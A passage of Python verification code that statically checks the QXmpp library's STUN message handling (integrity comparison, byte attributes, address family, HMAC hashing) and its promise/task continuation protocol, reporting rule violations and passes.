        yield from _value_chain(f, n['obj'], depth + 1)
    elif n['k'] == 'call' and n.get('op') in ('==', '!=') and n.get('opargs'):
        for a in n['opargs']:
            yield from _value_chain(f, a, depth + 1)
    elif n['k'] == 'cond':
        yield from _value_chain(f, n['a'], depth + 1)
        yield from _value_chain(f, n['b'], depth + 1)
    elif n['k'] == 'var' and n.get('vk') == 'local':
        d = f.single_def(n['decl'])
        if d is not None:
            yield from _value_chain(f, d, depth + 1)
    elif n['k'] in ('bin',) and n.get('op') in ('==', '!='):
        yield from _value_chain(f, n['l'], depth + 1)
        yield from _value_chain(f, n['r'], depth + 1)


def r8(prog, run, dec):
    rid = run.rule('C14.R8', 'the received MESSAGE-INTEGRITY and FINGERPRINT are compared with the computed value in full: a byte-array / integer (in)equality or '
                             'a fixed-length memcmp, never a C-string comparison (stops at the first NUL) or a prefix/substring test', floor=2)
    found = 0
    conds = []
    for b in dec.blocks.values():
        t = b.get('term')
        if t and 'cond' in t and t.get('k') in ('if', '?:', '&&', '||'):
            txt = dec.fmt(t['cond'])
            which = 'MESSAGE-INTEGRITY' if 'generateHmacSha1' in txt else 'FINGERPRINT' if 'generateCrc32' in txt else None
            if which:
                conds.append((t['cond'], which))
    for i, which in conds:
        found += 1
        run.instance(rid)
        problems = []
        cmp_nodes = [j for j in dec.walk(i) if dec.binop(j) and dec.binop(j)[0] in ('==', '!=') and ('generateHmacSha1' in dec.fmt(j) or 'generateCrc32' in dec.fmt(j))]
        # only operations applied to the two MAC values themselves count (the input of the HMAC may of course be a prefix of the packet)
        roots = []
        for cn_ in (cmp_nodes or [i]):
            bo_ = dec.binop(cn_)
            roots += list(bo_[1:]) if bo_ else [cn_]
        if not cmp_nodes:
            roots = [i]
        for r0 in roots:
            for j in _value_chain(dec, r0):
                m = dec.nodes[j]
                if m['k'] == 'call':
                    nm = (dec.sym(m) or {}).get('name', '')
                    if nm in STRING_COMPARES:
                        problems.append('%s() treats the MAC as a C string and stops at its first zero byte: only a prefix of the %s is verified' % (nm, which))
                    elif nm in PARTIAL and which == 'MESSAGE-INTEGRITY':
                        problems.append('%s() compares only part of the %s' % (nm, which))
        if not problems and not cmp_nodes:
            problems.append('the %s decision is not an (in)equality of the received and the computed value (%s)' % (which, dec.fmt(i, inline=False)[:60]))
        if not problems and which == 'MESSAGE-INTEGRITY':
            bo = dec.binop(cmp_nodes[0])
            ts = [(dec.nodes[dec.skip(x)].get('t') or '') for x in bo[1:]]
            if not all('QByteArray' in tt for tt in ts):
                mem = [m for j in dec.walk(i) for m in [dec.nodes[j]] if m['k'] == 'call' and (dec.sym(m) or {}).get('name') in ('memcmp', 'equal', 'compare')]
                if not mem:
                    problems.append('the %s is not compared as two byte arrays (%s)' % (which, ' vs '.join(tt or '?' for tt in ts)))
        if problems:
            run.violation(rid, 'decode#%s#partial-compare' % which, dec.loc(i), problems[0] + ': a corrupted or wrongly keyed message can be accepted')
        else:
            run.ok(rid, dec.loc(i), '%s compared in full (%s)' % (which, dec.fmt(i, inline=False)[:60]))
    if found < 2:
        raise AnalysisBroken('C14.R8: integrity/fingerprint comparisons not found in decode (found %d)' % found)


def r9(prog, run, enc):
    rid = run.rule('C14.R9', 'opaque byte attributes are written as the bytes they hold (no text conversion on the way), and the address family written is the '
                             'protocol() of the address (toIPv4Address(&ok) also succeeds for IPv4-mapped IPv6 addresses)', floor=2)
    # (a) byte-array members of the message must not pass through QString on their way into the packet
    run.instance(rid)
    bad = None
    fns = [enc] + [g for g in prog.fns.values() if g.name in ('encodeString', 'encodeAddress') and 'QXmppStun.cpp' in g.file]
    for i, n in enc.calls():
        cn = enc.cname(n)
        if cn in ('QString::fromUtf8', 'QString::fromLatin1', 'QString::fromLocal8Bit') or (n['k'] == 'construct' and n.get('cls') == 'QString'):
            for a in n.get('args', []):
                for j in enc.walk(a):
                    m = enc.nodes[j]
                    if m['k'] == 'mem' and 'QByteArray' in (m.get('t') or '') and m['f'].startswith('QXmppStunMessage::'):
                        bad = (i, m['f'].split('::')[-1], cn)
    if bad:
        run.violation(rid, 'encode#bytes-through-text#%s' % bad[1], enc.loc(bad[0]),
                      'the opaque byte attribute %s is converted with %s before it is written: bytes that are not valid UTF-8 (or follow a NUL) are altered, the decoder '
                      'reads them back raw, so the message does not decode to the value that was set' % (bad[1], bad[2]))
    else:
        run.ok(rid, enc.loc(), 'byte-array attributes are written raw')
    # (b) address family
    ea = [g for g in prog.fns.values() if g.name == 'encodeAddress' and 'QXmppStun.cpp' in g.file and not g.is_lambda]
    if not ea:
        raise AnalysisBroken('C14.R9: encodeAddress not found')
    ea = ea[0]
    run.instance(rid)
    fam_conds = []
    for b in ea.blocks.values():
        t = b.get('term')
        if t and t.get('k') in ('if', 'switch', 'cond') and 'cond' in t:
            fam_conds.append(t['cond'])
    uses_protocol = any('QHostAddress::protocol()' in ea.fmt(c, inline=True) for c in fam_conds)
    out_param = [i for i, n in ea.calls('QHostAddress::toIPv4Address') if n.get('args') and ea.nodes[n['args'][0]]['k'] != 'defarg']
    flag_cond = False
    for i in out_param:
        a = ea.nodes[ea.skip(ea.nodes[i]['args'][0])]
        tgt = a.get('e') if a['k'] == 'un' else None
        decl = ea.nodes[ea.skip(tgt)].get('decl') if tgt is not None else None
        if decl is not None and any(any(ea.nodes[j].get('decl') == decl for j in ea.walk(c)) for c in fam_conds):
            flag_cond = True
    if flag_cond:
        run.violation(rid, 'encodeAddress#family-from-conversion', ea.loc(out_param[0]),
                      'the address family is chosen by the ok flag of toIPv4Address(), which is also true for IPv4-mapped IPv6 addresses and "::": such addresses are '
                      'written as 4-byte IPv4 attributes and decode to a different address')
    elif uses_protocol:
        run.ok(rid, ea.loc(), 'family decided by QHostAddress::protocol()')
    else:
        raise AnalysisBroken('C14.R9: the address family decision of encodeAddress has a form the checker does not know')


# --------------------------------------------------------------------------- R10: decoded text values are stored as received
_TEXT_CONVERSIONS = ('QString::trimmed', 'QString::simplified', 'QString::toLower', 'QString::toUpper', 'QString::toCaseFolded', 'QString::normalized', 'QString::left',
                     'QString::mid', 'QString::chopped', 'QString::section', 'QString::remove', 'QString::replace', 'QByteArray::trimmed', 'QByteArray::simplified',
                     'QByteArray::toLower', 'QByteArray::toUpper', 'QByteArray::chopped', 'QByteArray::left', 'QByteArray::mid')


def r10(prog, run, dec):
    rid = run.rule('C14.R10', 'decode stores the text attributes (user name, realm, software, reason phrase, nonce ...) as the bytes say: between the raw read and the member no trimming, '
                              'case folding or cutting takes place (encode writes the member as it is, and the long-term key is derived from the realm as received)', floor=4)
    n_w = 0
    for i, n in list(dec.all_nodes('assign')) + [(i, n) for i, n in dec.calls() if n.get('op') == '=' and len(n.get('opargs', [])) == 2]:
        l = dec.nodes[dec.skip(n['l'] if n['k'] == 'assign' else n['opargs'][0])]
        r = n['r'] if n['k'] == 'assign' else n['opargs'][1]
        if l['k'] == 'var' and l.get('vk') == 'local' and (dec.defs().get(l.get('decl')) or {}).get('ref'):
            # a reference that selects one of several members (QString &text = cond ? m_realm : m_software ...): one write per member it can denote
            init = (dec.defs().get(l['decl']) or {}).get('init')
            members = sorted({dec.nodes[j]['name'] for j in dec.walk(init) if dec.nodes[j]['k'] == 'mem'}) if init is not None else []
            if members and any(x in (l.get('t') or '') for x in ('QString', 'QByteArray')):
                l = {'k': 'mem', 't': l.get('t'), 'name': '/'.join(members)}
                n_w += len(members) - 1
                for _ in members[1:]:
                    run.instance(rid)
                    run.ok(rid, dec.loc(i), 'one of %s, written through a reference' % l['name'], nontrivial=False)
        if l['k'] != 'mem' or not any(x in (l.get('t') or '') for x in ('QString', 'QByteArray')):
            continue
        n_w += 1
        run.instance(rid)
        conv = None
        stack = [r]
        seen = set()
        while stack and conv is None:
            x = stack.pop()
            for j in dec.walk(x):
                m = dec.nodes[j]
                if m['k'] == 'call' and (dec.cname(m) or '') in _TEXT_CONVERSIONS:
                    conv = j
                    break
                if m['k'] == 'var' and m.get('vk') == 'local' and m.get('decl') not in seen:
                    seen.add(m.get('decl'))
                    stack += [d for d in dec.all_defs(m.get('decl')) if d is not None]
        if conv is not None:
            run.violation(rid, 'decode#converted-text:%s' % l['name'], dec.loc(i),
                          'decode stores %s after %s: a value with blanks at the edges / other case does not decode to what was encoded, and keys derived from it differ from the '
                          'peer\'s' % (l['name'], dec.fmt(conv, inline=False)[:60]))
        else:
            run.ok(rid, dec.loc(i), '%s stored as read' % l['name'], nontrivial=False)
    if n_w < 4:
        raise AnalysisBroken('C14.R10: only %d text members written in decode' % n_w)


# --------------------------------------------------------------------------- R11: one hash object, one message; distinct attribute numbers
def r11(prog, run):
    rid = run.rule('C14.R11', 'a hash object whose result() has been taken gets no further data without a reset() (followed through helpers that are handed the object): otherwise the '
                              'inner hash of the HMAC covers the over-long key as well; and the attribute-type enumerators that encode() writes and decode() branches on are pairwise '
                              'distinct numbers (a shared number makes decode() take the first branch for both)', floor=2)
    top = prog.fn('generateHmac', unit='QXmppUtils.cpp')
    run.instance(rid)

    def event_of(g, nid):
        n = g.nodes[nid]
        if n['k'] == 'call' and (g.sym(n) or {}).get('record') == 'QCryptographicHash' and n.get('obj') is not None:
            nm = (g.sym(n) or {}).get('name')
            if nm in ('addData', 'result', 'reset', 'resultView'):
                o = g.nodes[g.skip(n['obj'])]
                # which object: a local of this function, or "the object the caller handed in" (a parameter of a helper stands for any of the caller's objects)
                who = 'L%s' % o.get('decl') if o.get('k') == 'var' and o.get('vk') == 'local' else '*'
                return {'addData': 'add', 'result': 'result', 'resultView': 'result', 'reset': 'reset'}[nm] + '@' + who
        return None
    seqs0 = cfgx.effect_sequences(prog, top, event_of)

    def project(q):
        """one sequence per hash object: events on '*' (through a helper parameter) count for every object"""
        objs = {e.split('@')[1] for e in q if '@' in e and not e.endswith('@*')} or {'*'}
        out = []
        for o in objs:
            out.append(tuple(e.split('@')[0] if '@' in e else e for e in q if '@' not in e or e.endswith('@' + o) or e.endswith('@*')))
        return out
    seqs = {p_ for q in seqs0 for p_ in project(q)}

    def ends_taken(q, taken=False):
        for e in (x.split('@')[0] for x in q):
            if e == 'result':
                taken = True
            elif e == 'reset':
                taken = False
        return taken
    # a helper whose paths differ (it hashes only over-long keys) shows up as '?': it may leave the object with its result taken
    helper_may_take = any(ends_taken(q) for _, n in top.calls() for g in prog.callee_fns(top, n)
                          if g.entry is not None and g.file == top.file and any('QCryptographicHash' in (p_.get('t') or '') for p_ in g.params)
                          for q in cfgx.effect_sequences(prog, g, event_of))
    bad = None
    for q in seqs:
        taken = False
        for e in q:
            if e == 'result':
                taken = True
            elif e == 'reset':
                taken = False
            elif e == '?' and helper_may_take:
                taken = True
            elif e == 'add' and taken:
                bad = q
    if bad:
        run.violation(rid, 'generateHmac#data-after-result', top.loc(),
                      'generateHmac (with its helpers) feeds more data into a QCryptographicHash after result() was taken, without reset() (effect order %s): the digest then covers '
                      'the earlier input too - for keys longer than the block the HMAC is no longer the RFC 2104 value' % list(bad))
    else:
        run.ok(rid, top.loc(), 'no data is added to a hash object after its result was taken (%d effect sequences)' % len(seqs))
    en = None
    for q, e in prog.enums.items():
        if q.split('::')[-1] == 'AttributeType' and 'QXmppStun' in (e.get('file') or ''):
            en = e
    if en is None:
        raise AnalysisBroken('C14.R11: the STUN AttributeType enum was not found')
    run.instance(rid)
    byv = {}
    for e_ in en['enumerators']:
        byv.setdefault(e_['v'], []).append(e_['name'])
    dup = {v: ns for v, ns in byv.items() if len(ns) > 1}
    if dup:
        v, ns = sorted(dup.items())[0]
        run.violation(rid, 'AttributeType#duplicate-number', 'src/base/QXmppStun.cpp:%s' % en.get('line', ''),
                      'the attribute types %s share the number 0x%04x: encode() writes both under it and decode() takes the branch of the first, so the second never comes '
                      'back and overwrites the first' % (' and '.join(ns), v))
    else:
        run.ok(rid, 'src/base/QXmppStun.cpp:%s' % en.get('line', ''), '%d attribute numbers, pairwise distinct' % len(en['enumerators']))
