"""C13 — a task's continuation runs exactly once, and never after its context has died (primitive-level clauses),
checked on every instantiation of QXmppPromise<T>::finish and QXmppTask<T>::then present in the library."""
from .. import cfgx
from ..build import AnalysisBroken
from ..effects import top_function

UNITS = 'all'
TP = 'QXmpp::Private::TaskPrivate'


def _always(fn, nid):
    pos = fn.pos(nid)
    return bool(pos) and (pos[0] == fn.entry or ('b', pos[0]) in fn.pdom().get(('b', fn.entry), set()))


def _has_assert(fn, nid, callee, pol):
    for c, p in fn.atomic_assertions_at(nid):
        if p is not pol:
            continue
        for j in fn.walk(c):
            m = fn.nodes[j]
            if m['k'] == 'call' and (fn.cname(m) == callee or (callee.startswith('*::') and fn.cname(m).endswith(callee[1:]))):
                return True
    return False


def run(prog, run):
    run.explanation = ('The guards and state updates the exactly-once / dead-context guarantees rest on, checked by dominance and control dependence on '
                       'every instantiation of the primitive found in the 127 units (template code is analysed through its instantiations): the '
                       'continuation is only invoked behind isContextAlive(), finished is set before anything else, the value is stored exactly when no '
                       'continuation is registered, a late then() consumes and clears the stored value, the registered wrapper clears itself, and only '
                       'the promise/task templates touch the shared record.')
    run.assume('interleaving semantics (re-entrancy from inside a continuation, copies dropped in every order, leak-freedom) need model checking / sanitizers: not decided')
    finishes = {}
    thens = {}
    for f in prog.fns.values():
        if f.is_lambda or f.raw.get('dependent'):
            continue
        if f.name == 'finish' and f.record == 'QXmppPromise':
            finishes.setdefault((f.targs, len(f.params)), f)
        elif f.name == 'then' and f.record == 'QXmppTask':
            thens.setdefault(f.targs, f)
    if len(finishes) < 20 or len(thens) < 30:
        raise AnalysisBroken('C13: only %d finish / %d then instantiations found' % (len(finishes), len(thens)))
    run.extra['finish_instantiations'] = len(finishes)
    run.extra['then_instantiations'] = len(thens)

    r1 = run.rule('C13.R1', 'QXmppPromise<T>::finish: the continuation is invoked only if one is registered and its context is alive', floor=20)
    r2 = run.rule('C13.R2', 'QXmppPromise<T>::finish: finished is set first; the value is stored exactly on the "no continuation" edge', floor=20)
    for key, f in sorted(finishes.items()):
        inv = [i for i, n in f.calls(TP + '::invokeContinuation')]
        setf = [i for i, n in f.calls(TP + '::setFinished') if f.const_value(n['args'][0]) == ('bool', True)]
        setr = [i for i, n in f.calls(TP + '::setResult')]
        is_void = not f.params
        run.instance(r1)
        if not inv:
            run.violation(r1, 'QXmppPromise::finish#never-invokes', f.loc(), 'finish%s never invokes the continuation' % f.targs[:60])
        elif all(_has_assert(f, i, TP + '::isContextAlive', True) and _has_assert(f, i, TP + '::continuation', True) for i in inv):
            run.ok(r1, f.loc(), 'finish%s: invokeContinuation behind continuation() && isContextAlive()' % f.targs[:50], nontrivial=True)
        else:
            run.violation(r1, 'QXmppPromise::finish#dead-context' + ('#void' if is_void else ('#converting' if any(True for _ in f.all_nodes('decl')) else '#value')), f.loc(inv[0]),
                          'finish%s can invoke the continuation although its context object has been destroyed' % f.targs[:60])
        run.instance(r2)
        problems = []
        if not setf or not _always(f, setf[0]):
            problems.append('finished flag not set on every path')
        else:
            for x in inv + setr:
                if not f.node_dominates(setf[0], x):
                    problems.append('continuation/value handled before the finished flag is set')
        if not is_void:
            if not setr:
                problems.append('value is never stored for a late then()')
            elif not all(_has_assert(f, i, TP + '::continuation', False) for i in setr):
                problems.append('value stored although a continuation is registered (or not stored when none is)')
        elif setr:
            problems.append('void promise stores a value')
        if problems:
            run.violation(r2, 'QXmppPromise::finish#order' + ('#void' if is_void else '#value'), f.loc(), 'finish%s: %s' % (f.targs[:50], '; '.join(sorted(set(problems)))))
        else:
            run.ok(r2, f.loc(), 'finish%s: setFinished(true) first; %s' % (f.targs[:50], 'no value' if is_void else 'setResult only when no continuation'))

    r3 = run.rule('C13.R3', 'QXmppTask<T>::then: a stored value is consumed once (moved out, then reset); otherwise the context is stored before the wrapper; '
                            'the wrapper calls the functor only behind isContextAlive() and clears itself on every path', floor=30)
    for targs, f in sorted(thens.items()):
        run.instance(r3)
        problems = []
        setctx = [i for i, n in f.calls(TP + '::setContext')]
        setcont = [i for i, n in f.calls(TP + '::setContinuation')]
        wrapper = [w for c in setcont for w, _ in _wrappers(prog, f, c)]
        if not wrapper or not setcont:
            problems.append('no self-clearing wrapper is registered')
        else:
            w = wrapper[0]
            clears = [i for i, n in w.calls(TP + '::setContinuation')]
            if not any(_always(w, c) for c in clears):
                problems.append('the wrapper does not clear the continuation on every path')
            user_calls = [i for i, n in w.calls() if n.get('op') == '()' and w.nodes[w.skip(n['opargs'][0])].get('vk') != 'param']
            if not user_calls:
                problems.append('the wrapper never calls the user functor')
            elif not all(_has_assert(w, i, TP + '::isContextAlive', True) for i in user_calls):
                problems.append('the wrapper calls the user functor without checking that the context is alive')
            if any(any(w.node_dominates(c, u) for c in clears) for u in user_calls):
                problems.append('the wrapper clears itself before running the functor')
        if not setctx or not setcont or not all(f.node_dominates(setctx[0], c) for c in setcont):
            problems.append('context not stored before the continuation is registered')
        for c in setcont + setctx:
            if not _has_assert(f, c, TP + '::isFinished', False):
                problems.append('continuation registered although the task is already finished')
        # finished edge
        direct = [i for i, n in f.calls() if n.get('op') == '()' and f.nodes[f.skip(n['opargs'][0])].get('vk') == 'param']
        is_void = '<void>' in targs.split(',')[0] or targs.startswith('<void')
        if not direct:
            problems.append('an already finished task never runs the continuation')
        else:
            for dcall in direct:
                if not _has_assert(f, dcall, TP + '::isFinished', True):
                    problems.append('continuation run directly although the task is not finished')
                if not is_void:
                    if not _has_assert(f, dcall, '*::hasResult', True):
                        problems.append('stored value used without hasResult()')
                    resets = [i for i, n in f.calls(TP + '::resetResult')]
                    if not any(f.node_dominates(dcall, r) and f.pos(r)[0] == f.pos(dcall)[0] or (f.node_dominates(dcall, r) and ('b', f.pos(r)[0]) in f.pdom().get(('b', f.pos(dcall)[0]), set())) for r in resets):
                        problems.append('the stored value is not reset after being handed to the continuation (could be consumed twice)')
                    if 'std::move' not in f.fmt(dcall, inline=False) and 'reinterpret_cast' not in f.fmt(dcall, inline=False) and 'result()' not in f.fmt(dcall, inline=False):
                        problems.append('the continuation does not receive the stored value')
        if problems:
            run.violation(r3, 'QXmppTask::then#' + sorted(set(problems))[0].split(' ')[0] + '-' + sorted(set(problems))[0].split(' ')[-1], f.loc(),
                          'then%s: %s' % (targs[:50], '; '.join(sorted(set(problems)))))
        else:
            run.ok(r3, f.loc(), 'then%s conforms' % targs[:60])

    r5 = run.rule('C13.R5', 'the shared record frees its value, and only the promise/task templates (and the ready-task helpers) touch its state', floor=6)
    rec = prog.record('QXmpp::Private::TaskData')
    roles = _roles(rec)
    run.instance(r5)
    dt = [f for f in prog.fns.values() if f.qname == 'QXmpp::Private::TaskData::~TaskData']
    dseq = _seqs(prog, dt[0], roles) if dt else set()
    if dseq and all('free' in q and '?' not in q for q in dseq):
        run.ok(r5, dt[0].loc(), '~TaskData releases the stored value through the deleter (on every path with a deleter)')
    else:
        run.violation(r5, 'TaskData#leak', dt[0].loc() if dt else 'src/base/QXmppTask.cpp', 'the shared task record does not free a stored result on destruction')
    sr = prog.fn(TP + '::setResult')
    run.instance(r5)
    sseq = _seqs(prog, sr, roles)
    if sseq and all('store' in q and '?' not in q and 'free' in q[:q.index('store')] for q in sseq):
        run.ok(r5, sr.loc(), 'setResult frees the previous value before storing the new one')
    else:
        run.violation(r5, 'TaskPrivate::setResult#leak', sr.loc(), 'setResult overwrites a stored value without freeing it (effect sequences with a deleter: %s)' % sorted(sseq))
    for callee in ('setFinished', 'setContinuation', 'invokeContinuation', 'setResult', 'resetResult', 'setContext'):
        for f, i in prog.callers_by_qname(TP + '::' + callee):
            if f.nodes[i]['k'] != 'call':
                continue
            top = top_function(prog, f)
            key = (callee, top.qname)
            run.instance(r5)
            if top.qname.startswith(('QXmppPromise<', 'QXmppTask<', 'QXmppPromise::', 'QXmppTask::', 'QXmpp::Private::TaskPrivate::', 'QXmpp::Private::makeReadyTask')):
                run.ok(r5, f.loc(i), '%s called from %s' % (callee, top.qname), nontrivial=False)
            else:
                run.violation(r5, 'TaskPrivate::%s#caller:%s' % (callee, top.qname), f.loc(i), '%s pokes the shared task record (%s)' % (top.display()[:60], callee))

    # the stored continuation must not own the record it is stored in
    r6 = run.rule('C13.R6', 'the continuation registered by then() does not capture the shared task record (it uses the TaskPrivate& it is called with): a by-value '
                            'capture makes the record own itself and nothing is released when the continuation never runs', floor=30)
    for targs, f in sorted(thens.items()):
        run.instance(r6)
        bad = None
        for c, _n in f.calls(TP + '::setContinuation'):
            for w, how in _wrappers(prog, f, c):
                if how[0] == 'functor':
                    # a named functor: what it holds are its members
                    for fl in how[1].get('fields', []):
                        t = fl.get('t') or ''
                        if 'TaskPrivate' in t and not t.strip().endswith('&') and not t.strip().endswith('*'):
                            bad = (c, fl['name'], t)
                    continue
                hf = how[2] if len(how) > 2 else f
                n = hf.nodes[how[1]]
                for cp in n.get('caps', []):
                    t = cp.get('t') or ''
                    if not t and cp.get('init') is not None:
                        t = hf.nodes[cp['init']].get('t') or hf.nodes[hf.skip(cp['init'])].get('t') or hf.nodes[hf.skip(cp['init'])].get('cls') or ''
                        if not t:
                            t = ' '.join(str(hf.nodes[j].get('t') or '') for j in hf.walk(cp['init']))
                    if not t and cp.get('name') == 'this':
                        continue
                    if 'TaskPrivate' in t and not cp.get('byref') and not t.strip().endswith('&'):
                        bad = (how[1], cp.get('name') or 'd', t)
        if bad:
            run.violation(r6, 'QXmppTask::then#continuation-owns-record', f.loc(bad[0]),
                          'then%s: the stored continuation captures %s (%s) by value: the shared record now holds a reference to itself, so the record, the functor and what '
                          'it captured are never released on any schedule in which the continuation does not run' % (targs[:40], bad[1], bad[2]))
        else:
            run.ok(r6, f.loc(), 'then%s: wrapper captures only the functor' % targs[:50], nontrivial=False)
    # who writes the members of the shared record
    r7 = run.rule('C13.R7', 'the members of the shared record are written only by their TaskPrivate setter (no signal handler or other function clears a continuation behind the '
                            'back of the registration protocol)', floor=4)
    from ..effects import field_uses
    owners = {'continuation': ('setContinuation',), 'context': ('setContext',), 'finished': ('setFinished',), 'result': ('setResult', 'resetResult'), 'freeResult': ('setResult', 'TaskPrivate')}
    callers = prog.callers()

    def writer_ok(g, role, depth=0):
        """g is the setter of the member with this role, the record's constructor/destructor, or a member function of the record
        that is called only from such functions (an extracted part of the setter)"""
        if g.is_lambda or depth > 3:
            return False
        direct = g.qname.split('::')[-1]
        if direct.startswith('~') or direct.startswith('TaskPrivate') or direct.startswith('TaskData'):
            return True
        if g.qname.startswith(TP + '::') and direct in owners[role]:
            return True
        if g.qname.startswith('QXmpp::Private::TaskData::'):
            cs = [c for c, _ in callers.get(g.id, [])]
            return bool(cs) and all(writer_ok(c, role, depth + 1) for c in cs)
        return False
    for fl in rec['fields']:
        q = fl.get('qname') or ('QXmpp::Private::TaskData::' + fl['name'])
        role = [r for r, fq in roles.items() if fq == q]
        for g, i, k, h in field_uses(prog, q):
            if k not in ('write', 'addr') or h == 'constructor initialiser':
                continue
            run.instance(r7)
            top = top_function(prog, g)
            if role and writer_ok(g, role[0]):
                run.ok(r7, g.loc(i), '%s (%s) written by %s' % (fl['name'], role[0], g.qname.split('::')[-1]), nontrivial=False)
            else:
                run.violation(r7, 'TaskData::%s#writer:%s' % (role[0] if role else fl['name'], top.qname.split('::')[-1] + ('#lambda' if g.is_lambda else '')), g.loc(i),
                              'TaskData::%s is written in %s%s, outside its setter: a handler registered for one continuation/context can clear a later registration'
                              % (fl['name'], top.display()[:50], ' (inside a lambda, e.g. a signal handler)' if g.is_lambda else ''))
    r8_deleter(prog, run)


def r8_deleter(prog, run):
    """the type-erased deleter is the only thing that frees a stored value (R5): it must exist for every result type that is stored"""
    import os
    from .. import build, facts
    rid = run.rule('C13.R8', 'every QXmppPromise<T> with a non-void T hands the shared record a deleter that deletes the stored T (the record frees values only through it); only '
                             'QXmppPromise<void>, which never stores anything, passes none - checked on every instantiation in the build and on instantiation witnesses for bool, '
                             'int, enum, pointer, empty-struct and QString results (controls/c13_controls.cpp)', floor=30)
    cprog = facts.Program(build.extract_control(os.path.join(build.VERIF, 'controls', 'c13_controls.cpp'), like_unit='base/QXmppTask.cpp', extra_root=os.path.join(build.REPO, 'src')))
    seen = {}
    for pr in (cprog, prog):
        for f in pr.fns.values():
            if f.is_lambda or f.raw.get('dependent') or not (f.qname.startswith('QXmppPromise<') and f.qname.endswith('>::QXmppPromise') and not f.params):
                continue
            t = f.qname[len('QXmppPromise<'):-len('>::QXmppPromise')]
            if t in seen:
                continue
            inits = [n for n in f.nodes if n['k'] == 'init']
            arg = None
            for n in f.nodes:
                if n['k'] == 'construct' and 'TaskPrivate' in (n.get('cls') or '') and n.get('args'):
                    arg = f.nodes[f.skip(n['args'][0])]
            if arg is None:
                seen[t] = (f, 'the shared record is not constructed in the initialiser')
                continue
            src = f
            if arg['k'] == 'call' and not arg.get('op') and not arg.get('obj'):
                # the deleter is chosen by a (static) helper of the promise: look at what this instantiation of the helper returns
                hs_ = [h for h in pr.callee_fns(f, arg) if h.entry is not None]
                if len(hs_) == 1:
                    rets = [h2 for h2 in [hs_[0].nodes[hs_[0].skip(r['e'])] for _, r in hs_[0].returns() if 'e' in r]]
                    if rets and all(r['k'] == 'null' for r in rets):
                        arg = {'k': 'null'}
                    elif rets and not any(r['k'] == 'null' for r in rets):
                        src = hs_[0]
                        arg = {'k': 'from-helper'}
            if arg['k'] == 'null':
                seen[t] = (f, None if t == 'void' else 'no deleter (nullptr)')
                continue
            lams = [l for n in src.nodes if n['k'] == 'lambda' for l in pr.lambda_fns(src, n)]
            deletes = [(l, m) for l in lams for m in l.nodes if m['k'] == 'delete']
            good = False
            for l, m in deletes:
                e = l.nodes[l.skip(m['e'])] if 'e' in m else {}
                inner = l.nodes[m['e']] if 'e' in m else {}
                casts = [x for x in (inner, e) if x.get('k') == 'cast']
                to = (casts[0].get('to') if casts else '') or ''
                if to.replace(' ', '').rstrip('*') == t.replace(' ', '') or (to.endswith('*') and to[:-1].strip() == t):
                    good = True
            seen[t] = (f, None if good and t != 'void' else ('a deleter for a promise that stores nothing' if t == 'void' else 'the deleter does not delete a %s' % t))
    want = ('void', 'bool', 'int', 'qxv_control::Level', 'const char *', 'qxv_control::Empty', 'QString')
    missing = [w for w in want if w not in seen]
    if missing:
        raise AnalysisBroken('C13.R8: instantiation witnesses not found: %s' % missing)
    for t, (f, problem) in sorted(seen.items()):
        run.instance(rid)
        if problem:
            run.violation(rid, 'QXmppPromise#deleter:%s' % ('trivially-destructible' if t in want[1:6] else t[:40]), f.loc(),
                          'QXmppPromise<%s> gives the shared record %s: a value stored because the promise finished before a continuation was attached is never freed '
                          '(neither when it is consumed later nor when the last handle goes away)' % (t[:60], problem))
        else:
            run.ok(rid, f.loc(), 'QXmppPromise<%s>: %s' % (t[:60], 'no deleter, nothing is stored' if t == 'void' else 'deleter deletes the stored value'), nontrivial=t in want)


def fn_is_template_member(prog, f, m):
    s = f.sym(m) or {}
    return (s.get('record') or '').startswith('QXmppTask') or (s.get('qname') or '').startswith('QXmppTask')


def _wrappers(prog, f, call):
    """the callable(s) handed to this setContinuation call: [(Fn of its operator(), ('lambda', lambda node id) | ('functor', record))]"""
    out = []
    n = f.nodes[call]
    for a in n.get('args', []):
        for j in f.walk(a):
            m = f.nodes[j]
            if m['k'] == 'lambda':
                for l in prog.lambda_fns(f, m):
                    out.append((l, ('lambda', j, f)))
            elif m['k'] == 'call' and not m.get('op') and fn_is_template_member(prog, f, m):
                # a helper of the task template that builds and returns the wrapper
                for g in prog.callee_fns(f, m):
                    if g.entry is None:
                        continue
                    for _, rn in g.returns():
                        if 'e' not in rn:
                            continue
                        for jj in g.walk(rn['e']):
                            mm = g.nodes[jj]
                            if mm['k'] == 'lambda':
                                for l in prog.lambda_fns(g, mm):
                                    out.append((l, ('lambda', jj, g)))
            elif m['k'] in ('initlist', 'construct') and m.get('t') and not (m.get('t') or '').startswith('std::function'):
                t = m['t']
                for g in prog.fns.values():
                    if g.name == 'operator()' and not g.is_lambda and (g.qname == t + '::operator()' or g.qname.endswith('::' + t + '::operator()')) \
                            and g.qname.startswith(f.qname.rsplit('::', 1)[0] + '::'):
                        rec = prog.records.get(g.qname[:-len('::operator()')]) or {}
                        out.append((g, ('functor', rec)))
    seen, uniq = set(), []
    for w, how in out:
        if w.id not in seen:
            seen.add(w.id)
            uniq.append((w, how))
    return uniq


def _roles(rec):
    """the members of the shared record by what they are (type), not by how they are called"""
    roles = {}
    for fl in rec['fields']:
        t = fl.get('t') or ''
        role = ('continuation' if t.startswith('std::function') else 'context' if t.startswith('QPointer') else 'finished' if t == 'bool'
                else 'freeResult' if '(*)' in t else 'result' if t.replace(' ', '') == 'void*' else None)
        if role is None and (t.startswith('QMetaObject::Connection') or 'QTimer' in t or t.startswith('QList<QMetaObject::Connection')):
            continue        # bookkeeping for a signal connection: not one of the five protocol members; what a connected handler may write is R7's subject
        if role is None or role in roles:
            raise AnalysisBroken('C13: the shared record has a member the checker cannot classify: %s %s' % (t, fl['name']))
        roles[role] = fl.get('qname') or ('QXmpp::Private::TaskData::' + fl['name'])
    if len(roles) != 5:
        raise AnalysisBroken('C13: shared record members found: %s' % sorted(roles))
    return roles


def _seqs(prog, g, roles, depth=0):
    """effect sequences ('free' = deleter(value), 'store' = value member assigned) over all paths of g when a deleter is set; calls to
    member functions of the record / of TaskPrivate are inlined"""
    ev = cfgx.Evaluator(g, {'field:' + roles['freeResult']: True})

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and 'fn' in n and not f.cname(n):
            callee = f.nodes[f.skip(n['fn'])]
            if callee.get('k') == 'mem' and callee.get('f') == roles['freeResult'] and n.get('args') \
                    and f.nodes[f.skip(n['args'][0])].get('f') == roles['result']:
                return st + ('free',)
        if n['k'] == 'assign' and f.nodes[f.skip(n['l'])].get('f') == roles['result']:
